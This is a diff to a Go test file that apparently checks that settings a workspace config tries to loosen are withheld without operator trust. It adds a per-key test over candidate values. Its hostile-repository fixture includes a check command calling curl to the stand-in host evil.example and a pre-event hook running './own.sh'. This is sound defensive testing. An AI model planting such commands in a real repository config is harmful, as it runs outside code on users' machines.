@@ -48,10 +48,41 @@ checks: [{paths: "**", command: curl evil.example}]
 hooks: [{event: pre, command: ./own.sh}]
 `
 
-// loosest are the keys whose default allows the most already.
-var loosest = map[string]bool{
-	"scope.required": true, "approvals.program_config": true, "approvals.select_intent": true, "commands.default": true,
-	"commands.network": true, "commands.revert_violations": true, "ledger.record_reads": true,
+// candidates are values that a key takes, as far as its description says them.
+func candidates(info settings.KeyInfo) []string {
+	switch {
+	case info.Example != "":
+		return []string{"[" + info.Example + "]"}
+	case info.Values == "true or false":
+		return []string{"true", "false"}
+	}
+	if _, limits, are := strings.Cut(info.Values, ", from "); are {
+		return strings.Split(limits, " to ")
+	}
+	if strings.HasPrefix(info.Values, "a ") || info.Values == "text" {
+		return nil
+	}
+	return strings.Split(info.Values, ", ")
+}
+
+// Whatever value of a key is withheld has no effect, and where only the operator may set it, one is.
+func TestEachKeyIsHeld(t *testing.T) {
+	m := newMachine(t)
+	for _, info := range settings.Keys() {
+		held := 0
+		for _, value := range candidates(info) {
+			m.setWorkspace(info.Name + ": " + value)
+			loaded := m.load()
+			if withheld(loaded) == info.Name && reflect.DeepEqual(loaded.Settings, settings.Defaults()) {
+				held++
+			} else if len(loaded.Withheld) > 0 || info.Workspace == "needs trust" && value != info.Default {
+				t.Errorf("%s: %s: withheld %q", info.Name, value, withheld(loaded))
+			}
+		}
+		if (info.Workspace == "free" || info.Workspace == "may add") && held > 0 {
+			t.Errorf("%s is %s, and withheld", info.Name, info.Workspace)
+		}
+	}
 }
 
 func TestHostileRepositoryWeakensNothing(t *testing.T) {
@@ -63,12 +94,6 @@ func TestHostileRepositoryWeakensNothing(t *testing.T) {
 	}
 	if loaded.WorkspaceTrusted {
 		t.Error("trusted by nobody")
-	}
-	for _, info := range settings.Keys() {
-		weakens := info.Workspace == "may only tighten" || info.Workspace == "needs trust"
-		if weakens && !loosest[info.Name] && !strings.Contains(" "+withheld(loaded)+" ", " "+info.Name+" ") {
-			t.Errorf("%s is not withheld, or missing in this test", info.Name)
-		}
 	}
 	for _, w := range loaded.Withheld {
 		if !w.NeedsTrust || w.Reason == "" || w.Value == "" || !strings.HasPrefix(w.Origin, ".orchestration/config.yaml:") {
